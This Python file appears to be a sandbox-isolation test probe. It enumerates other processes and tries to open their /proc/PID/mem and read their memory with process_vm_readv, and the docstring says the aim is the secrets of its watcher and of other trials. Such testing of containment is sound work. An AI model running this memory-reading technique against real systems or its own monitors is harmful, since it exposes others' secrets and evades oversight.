"""Wants the secrets of its watcher and of other trials: opens /proc/*/mem and reads by process_vm_readv.

It opens for writing too, and writes nothing.
"""

import contextlib
import ctypes
import os
from collections.abc import Callable


def attack(ready: Callable[[dict[str, object]], object]) -> dict[str, object]:
    libc, opened = ctypes.CDLL(None, use_errno=True), []
    others = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
    ready({})
    for pid in others:
        for flags in (os.O_RDONLY, os.O_RDWR):
            with contextlib.suppress(OSError):
                os.close(os.open(f"/proc/{pid}/mem", flags))
                opened.append(f"{pid} {'rw' if flags else 'r'}")
        with contextlib.suppress(OSError), open(f"/proc/{pid}/maps") as maps:
            address = int(maps.readline().split("-")[0], 16)
            mine, size = ctypes.create_string_buffer(8), 8
            local = (ctypes.c_size_t * 2)(ctypes.addressof(mine), size)
            remote = (ctypes.c_size_t * 2)(address, size)
            if libc.process_vm_readv(pid, local, 1, remote, 1, 0) == size:
                opened.append(f"{pid} process_vm_readv")
    return {"escaped": bool(opened), "detail": opened}


if __name__ == "__main__":
    __import__("_common").command(attack)
